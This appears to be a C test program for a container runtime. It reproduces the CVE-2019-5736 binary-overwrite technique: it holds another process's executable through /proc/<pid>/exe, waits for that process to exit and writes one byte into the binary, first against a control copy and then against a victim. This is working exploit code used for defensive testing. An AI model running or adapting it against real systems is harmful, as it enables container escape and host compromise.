/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736 from inside: keep a descriptor of another process' binary, wait for its end, write to it.
 *
 *	exe_attack FIFO
 *
 * First the control, against a copy of this program in /tmp: prints `control: written`, or the attack itself is
 * broken. Then against the first process that is not this one; it is expected to block on opening FIFO for
 * writing, and is released when its binary is held. Prints `victim: written` or `victim: <error>`.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define COPY "/tmp/exe_attack.copy"

static void pause_ms(long ms)
{
	struct timespec pause = { .tv_nsec = ms * 1000000 };

	nanosleep(&pause, NULL);
}

static int hold(pid_t pid)
{
	char path[32];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return open(path, O_PATH | O_CLOEXEC);
}

/* What a held binary can be made to do, once nobody executes it any more. */
static const char *overwrite(int held)
{
	char path[32];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int tries = 0; tries < 2000; tries++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd >= 0)
			return pwrite(fd, "#", 1, 0) == 1 ? "written" : strerror(errno);
		if (errno != ETXTBSY)
			return strerror(errno);
		pause_ms(1);
	}
	return "busy for ever";
}

static const char *attack_copy(void)
{
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), held;
	int copy = open(COPY, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	struct stat st;
	pid_t pid;

	if (self < 0 || copy < 0 || fstat(self, &st) < 0 ||
	    sendfile(copy, self, NULL, (size_t)st.st_size) != st.st_size)
		return strerror(errno);
	close(copy);
	pid = fork();
	if (pid == 0) {
		execl(COPY, COPY, "--sleep", NULL);
		_exit(1);
	}
	pause_ms(100);
	held = hold(pid);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return held < 0 ? strerror(errno) : overwrite(held);
}

/* The first process in /proc that is neither this one nor this one's child. */
static pid_t find_victim(void)
{
	for (int tries = 0; tries < 10000; tries++) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
			char path[32], exe[256];
			ssize_t len;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (pid <= 0 || pid == getpid())
				continue;
			len = readlink(path, exe, sizeof(exe) - 1);
			if (len < 0)
				continue;
			/* nvcrun before its execve(2) has the same file; both are victims worth having. */
			closedir(proc);
			return pid;
		}
		if (proc)
			closedir(proc);
		pause_ms(1);
	}
	return -1;
}

int main(int argc, char *argv[])
{
	int held, fifo;
	pid_t pid;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && strcmp(argv[1], "--sleep") == 0) {
		pause_ms(999);
		return 0;
	}
	if (argc != 2)
		return 2;
	printf("control: %s\n", attack_copy());
	pid = find_victim();
	held = hold(pid);
	if (held < 0) {
		printf("victim: pid %d not held: %s\n", pid, strerror(errno));
		return 1;
	}
	fifo = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fifo < 0)
		return 1;
	while (kill(pid, 0) == 0)
		pause_ms(1);
	printf("victim: %s\n", overwrite(held));
	return 0;
}
